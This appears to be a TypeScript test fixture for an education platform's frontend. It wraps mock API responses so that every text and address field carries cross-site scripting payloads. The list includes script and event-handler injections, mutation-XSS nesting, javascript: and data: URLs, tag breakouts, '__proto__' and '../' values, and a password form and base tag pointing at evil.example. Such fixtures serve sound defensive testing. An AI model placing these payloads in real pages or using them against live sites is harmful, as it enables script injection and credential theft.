/** What would be an element, a script or another address, wherever a text is not written as a text or a rich text not cleaned. */
const HOSTILE_HTML = [
  "<script>hostile()</script>",
  '<img src="x" onerror="hostile()">',
  '<svg onload="hostile()"><style>*{display:none}</style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile()&gt;"></table></mtext></math>',
  '<a href="javascript:hostile()">a</a><a href="java&#9;script:hostile()">b</a><a href="data:text/html,<script>1</script>">c</a>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=/Tidak-Ada"><base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Kirim</button></form>',
  '<p style="position:fixed;inset:0" onclick="hostile()">p</p>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>',
  "</script></title></textarea></style><script>hostile()</script>",
  '<details open ontoggle="hostile()"></details>',
  "<div>".repeat(500),
  "\u2028\u202e\u0000",
].join("\n");

const ADDRESSES = [
  "javascript:hostile()",
  "data:image/svg+xml,<svg onload=hostile()>",
  "//evil.example/a.png",
  '" onerror="hostile()',
];

/** Names that other parts of an answer are found by, and words that mean something. */
const KEPT =
  /^(?:slug|id|classroomId|code|state|type|kind|programIds|value|moduleSlug|language|timeZone|colour|\w+(?:On|At))$/;
const ADDRESS = /^(?:logo|src|image|cover)$/;

const hostileBlocks = [
  { kind: "embed", src: "javascript:hostile()", title: HOSTILE_HTML },
  {
    kind: "video",
    title: HOSTILE_HTML,
    src: "javascript:hostile()",
    lengthSeconds: 5,
    captions: [{ language: 'id"', label: HOSTILE_HTML, src: "data:text/vtt,x" }],
    transcript: [HOSTILE_HTML, HOSTILE_HTML],
  },
  { kind: "code", language: 'html"><script>hostile()</script>', source: HOSTILE_HTML, caption: HOSTILE_HTML },
  { kind: "code", language: "xml", source: HOSTILE_HTML, caption: "" },
  { kind: "code", language: "__proto__", source: HOSTILE_HTML, caption: "" },
  {
    kind: "quiz",
    id: '"><img src=x onerror=hostile()>',
    question: HOSTILE_HTML,
    choices: [{ text: HOSTILE_HTML, isRight: true, reply: HOSTILE_HTML }],
  },
  { kind: "exercise", id: '../"', title: HOSTILE_HTML, html: HOSTILE_HTML, language: "python", starter: HOSTILE_HTML },
];

/** An answer of a host with every text hostile, and every address too. */
export const withHostileTexts = (value: unknown, name = ""): unknown => {
  if (typeof value === "string") {
    if (KEPT.test(name)) return value;
    return ADDRESS.test(name) ? ADDRESSES[value.length % ADDRESSES.length] : `${value.slice(0, 40)}${HOSTILE_HTML}`;
  }
  if (Array.isArray(value)) {
    const items = value.map((item) => withHostileTexts(item, name));
    return name === "blocks" ? [...items, ...hostileBlocks] : items;
  }
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, withHostileTexts(part, key)]));
};
